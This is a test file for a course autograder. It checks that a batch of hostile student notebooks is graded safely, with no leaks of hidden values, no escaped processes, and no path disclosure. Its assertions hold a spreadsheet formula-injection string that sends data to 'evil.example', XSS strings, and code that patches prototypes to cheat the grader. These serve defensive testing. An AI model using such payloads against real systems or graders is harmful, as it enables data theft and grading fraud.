// The hostile-submission corpus (test/corpus/cases.ts) graded as one batch, the way an instructor
// grades a class: every case gets its expected status and points, the batch completes, nothing
// escapes, and no output of the grader holds a hidden expected value.
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import {
  feedbackHtml,
  feedbackMarkdown,
  gradeBatch,
  gradebookCsv,
  writeOutputs,
  type LearnerResult,
} from "../grader/batch";
import { loadExerciseSet, loadSolution } from "../grader/sections";
import { closeTypeChecker, formatTable, gradeNotebook, gradescopeJson } from "../grader/pipeline";
import { main } from "../grader/cli";
import { parse } from "csv-parse/sync";
import { checkLeaks } from "../grader/authoring";
// NOTE: the corpus is graded with every time limit halved (COURSE_TIME_SCALE × 0.5, for this suite's
// batch workers): its runaway cases wait out per-cell and per-call limits, and half of them still
// leave honest section-01 code ≥ 3× headroom (its slowest cell imports mathjs, ≈ 0.6 s; calls take ms).
process.env.COURSE_TIME_SCALE = String(0.5 * Number(process.env.COURSE_TIME_SCALE || 1));
import { edited, json } from "./corpus/build";
import { cases, marker } from "./corpus/cases";

const S = "01-single-unit-gd";
const set = loadExerciseSet(S);
const dir = fs.mkdtempSync(path.join(os.tmpdir(), "corpus-"));
let results: LearnerResult[] = [];
/** Every learner process the batch started: each leads its own process group. */
const spawned = new Set<number>();

const outputs = path.join(dir, "out");
fs.mkdirSync(outputs);
let summary = "";

// A hang guard, not a measure: this hook grades a whole batch, which on a machine as busy as the one
// the issue describes (load 8–14) takes many times its idle time.
const HOOK_GUARD_MS = 60 * 60_000;
beforeAll(async () => {
  for (const c of cases) {
    const file = path.join(dir, `${c.name}.ipynb`),
      content = c.file(dir);
    if (typeof content === "object" && "sparseBytes" in content) {
      fs.writeFileSync(file, "");
      fs.truncateSync(file, content.sparseBytes);
    } else fs.writeFileSync(file, content);
  }
  const t0 = Date.now();
  results = await gradeBatch(
    cases.map((c) => path.join(dir, `${c.name}.ipynb`)),
    { jobs: 2, onSpawn: (pid) => spawned.add(pid) },
  );
  const seconds = (Date.now() - t0) / 1000; // printed, never asserted: the machine may be slow or busy
  writeOutputs(results, {
    csv: path.join(outputs, "gradebook.csv"),
    jsonDir: path.join(outputs, "results"),
    feedbackDir: path.join(outputs, "feedback"),
  });
  const out = {
    text: "",
    write(s: string) {
      this.text += s;
      return true;
    },
  };
  await main(
    [
      "node",
      "course",
      "grade",
      "--quiet",
      "--jobs",
      "1",
      ...cases
        .filter((c) => c.group === "injection" || c.group === "identity")
        .map((c) => path.join(dir, `${c.name}.ipynb`)),
    ],
    out as any,
    out as any,
  );
  summary = out.text;
  // The table of the closing note: case, outcome, time.
  const rows = cases.map(
    (c, i) =>
      `${c.group.padEnd(9)} ${c.name.padEnd(46)} ${results[i].status.padEnd(15)} ${String(results[i].report?.score ?? "-").padStart(4)}  ${results[i].seconds.toFixed(1).padStart(5)} s`,
  );
  console.log(`${cases.length} cases graded as one batch on 2 workers in ${seconds.toFixed(0)} s\n${rows.join("\n")}`);
}, HOOK_GUARD_MS);
afterAll(() => closeTypeChecker());

test("the corpus covers every kind of hostile or broken submission, at least 40 cases", () => {
  expect(cases.length).toBeGreaterThanOrEqual(40);
  expect(new Set(cases.map((c) => c.group))).toEqual(
    new Set([
      "runaway",
      "escape",
      "lying",
      "broken",
      "mistake",
      "forging",
      "poisoning",
      "identity",
      "leaks",
      "injection",
    ]),
  );
  expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
});

test.each(cases.map((c, i) => [c.name, i] as const))("%s gets its expected status and points", (_name, i) => {
  const c = cases[i],
    r = results[i];
  expect([c.name, r.status]).toEqual([c.name, c.expect.status]);
  if (c.expect.status === "not-a-notebook") return expect(r.error).toMatch(/\S/);
  const want = Object.fromEntries(
    loadExerciseSet(c.section ?? S).parts.map((p) => [p.name, (c.expect.zero ?? []).includes(p.name) ? 0 : p.points]),
  );
  expect(Object.fromEntries(r.report!.parts.map((p) => [p.name, p.points]))).toEqual(want);
  if (c.expect.notes) expect(r.report!.notes.join("\n")).toMatch(c.expect.notes);
  for (const [part, re] of Object.entries(c.expect.feedback ?? {}))
    expect(r.report!.parts.find((p) => p.name === part)!.feedback.join("\n")).toMatch(re);
});

test("the whole batch, runaway cases included, gives every case its row, its results.json and its feedback", () => {
  expect(results).toHaveLength(cases.length);
  expect(results.map((r) => path.basename(r.file, ".ipynb"))).toEqual(cases.map((c) => c.name));
  expect(fs.readdirSync(path.join(outputs, "results"))).toHaveLength(cases.length);
  expect(fs.readdirSync(path.join(outputs, "feedback"))).toHaveLength(cases.length);
  expect(parse(fs.readFileSync(path.join(outputs, "gradebook.csv"), "utf8"), { columns: true })).toHaveLength(
    cases.length,
  );
});

test("a notebook claiming another learner's id is flagged with that learner, and neither overwrites the other's files", () => {
  const [thief, victim] = ["claims-to-be-another-learner", "sources-as-strings"].map(
    (n) => results[cases.findIndex((c) => c.name === n)],
  );
  expect([thief.learner, victim.learner]).toEqual(["sources-as-strings", "sources-as-strings"]);
  for (const r of [thief, victim]) expect(r.flags).toEqual(['duplicate-id: 2 submissions claim "sources-as-strings"']);
  expect(thief.key).not.toBe(victim.key);
  for (const r of [thief, victim])
    expect(JSON.parse(fs.readFileSync(path.join(outputs, "results", `${r.key}.json`), "utf8")).score).toBe(
      r.report!.score,
    );
});

test("learners named in any script keep their own files, and a 300-character id is cut to 100", () => {
  for (const name of ["李雷", "韩梅梅"])
    expect(fs.existsSync(path.join(outputs, "results", `${name}.json`))).toBe(true);
  expect(results[cases.findIndex((c) => c.name === "an-id-of-300-characters")].learner).toBe(`${"x".repeat(99)}…`);
});

test("what instructors read holds no control characters, formulas are text, Markdown and HTML are escaped", () => {
  const csv = fs.readFileSync(path.join(outputs, "gradebook.csv"), "utf8");
  for (const text of [csv, summary, ...results.map((r) => (r.report ? formatTable(r.report, 200) : ""))])
    // eslint-disable-next-line no-control-regex -- control characters are what this test looks for
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  const rows: Record<string, string>[] = parse(csv, { columns: true });
  expect(rows.find((r) => r.learner.includes("HYPERLINK"))!.learner).toBe(
    '\'=HYPERLINK("http://evil.example/?"&A1,"ok")',
  );
  expect(summary.split("\n").filter((l) => /100 \/ 100/.test(l) && l.includes("mallory"))).toEqual([
    expect.stringMatching(/^bob \[2K mallory /),
  ]);
  const md = fs.readFileSync(path.join(outputs, "feedback", "script-and-markdown-in-a-thrown-message.md"), "utf8");
  expect(md).toContain("&lt;script&gt;alert(1)&lt;/script&gt; \\[grade\\](javascript:alert(1)) \\*\\*100/100\\*\\*");
});

test("hidden-case feedback never echoes what the learner's code threw, nor an error's size", () => {
  const hiddenLines = results
    .flatMap((r) => r.report?.parts.flatMap((p) => p.feedback) ?? [])
    .filter((l) => l.startsWith("hidden case"));
  expect(hiddenLines.length).toBeGreaterThan(10);
  expect(hiddenLines.filter((l) => /: threw [\w ]+: |largest error|\d\.\d+e-\d|inputs \[/.test(l))).toEqual([]);
  expect(results.flatMap((r) => r.report?.notes ?? []).filter((n) => n.length > 1000)).toEqual([]);
});

test("no feedback or note shows the grading host's layout: the course folder, the temp folder, node's folder, home", () => {
  const host = [path.join(__dirname, ".."), os.tmpdir(), path.dirname(process.execPath), os.homedir()];
  const learnerText = results.flatMap((r) => [
    ...(r.report?.notes ?? []),
    ...(r.report?.parts ?? []).flatMap((p) => p.feedback),
  ]);
  expect(learnerText.filter((t) => host.some((h) => t.includes(`${h}/`)))).toEqual([]);
});

test("no output of the grader over the corpus — table, results.json, gradebook, feedback — holds a hidden value or a solution line", () => {
  const outputs = [
    { name: "gradebook.csv", text: gradebookCsv(results) },
    ...results.flatMap((r) => [
      { name: `${r.learner}.md`, text: feedbackMarkdown(r) },
      { name: `${r.learner}.html`, text: feedbackHtml(r) },
      ...(r.report
        ? [
            { name: `${r.learner} table`, text: formatTable(r.report, 200) },
            { name: `${r.learner}.json`, text: JSON.stringify(gradescopeJson(r.report)) },
          ]
        : []),
    ]),
  ];
  expect(checkLeaks(set, loadSolution(S), outputs)).toEqual([]);
});

test("no escape attempt left a trace: no file written, no process of the batch's learner process groups still running", () => {
  expect(fs.existsSync(marker(dir))).toBe(false);
  expect(spawned.size).toBeGreaterThanOrEqual(
    cases.length - cases.filter((c) => c.expect.status === "not-a-notebook").length,
  );
  expect(livingInGroups(spawned)).toEqual([]);
});

/** Processes (not zombies) whose process group is one of `groups`, as "pid command". */
function livingInGroups(groups: Set<number>): string[] {
  const out: string[] = [];
  for (const pid of fs.readdirSync("/proc").filter((f) => /^\d+$/.test(f))) {
    let stat: string;
    try {
      stat = fs.readFileSync(`/proc/${pid}/stat`, "utf8");
    } catch {
      continue;
    } // gone meanwhile
    // pid (comm) state ppid pgrp …; comm may hold spaces and parentheses, so split after the last ")".
    const [state, , pgrp] = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
    if (state !== "Z" && groups.has(Number(pgrp)))
      out.push(`${pid} ${stat.slice(stat.indexOf("(") + 1, stat.lastIndexOf(")"))}`);
  }
  return out;
}

describe("NDArrays that lie (section 05)", () => {
  const freshFile = () => path.join(dir, `05-${Math.random().toString(36).slice(2)}.ipynb`);
  const grade = async (edits: Parameters<typeof edited>[1]) => {
    const file = freshFile();
    fs.writeFileSync(file, json(edited("05-mnist", edits)));
    return (await gradeNotebook(file, { parts: ["relu"] })).parts[0];
  };
  const SIG = "function relu(Z: NDArray): { A: NDArray; cache: ActivationCache }";
  test("a subclass of NDArray is refused", async () => {
    const p = await grade({
      replace: {
        relu: `class Fake extends NDArray {}\n${SIG} {\n  return { A: Object.setPrototypeOf(maximum(Z, 0), Fake.prototype), cache: { Z } };\n}`,
      },
    });
    expect([p.points, p.feedback.join("\n")]).toEqual([0, expect.stringMatching(/returned an instance of Fake/)]);
  });
  test("an object made from NDArray's prototype without values is refused", async () => {
    const p = await grade({
      replace: {
        relu: `${SIG} {\n  return { A: Object.assign(Object.create(NDArray.prototype), { rows: Z.rows, cols: Z.cols }), cache: { Z } };\n}`,
      },
    });
    expect(p.points).toBe(0);
  });
  test("patching NDArray's data getter cannot make a wrong ReLU pass", async () => {
    const p = await grade({
      replace: { relu: `${SIG} {\n  return { A: Z, cache: { Z } };\n}` },
      append: [
        'Object.defineProperty(NDArray.prototype, "data", { get() { return new Float64Array(this.rows * this.cols); } });',
      ],
    });
    expect(p.points).toBe(0);
  });
  test("a correct ReLU still passes after the learner patched Object and Array", async () => {
    const p = await grade({
      append: [
        "(Object as any).getOwnPropertyDescriptors = () => ({});\n(Array as any).from = () => [];\n(Array.prototype as any).push = () => 0;",
      ],
    });
    expect([p.points, p.status]).toEqual([4, "passed"]);
  });
});
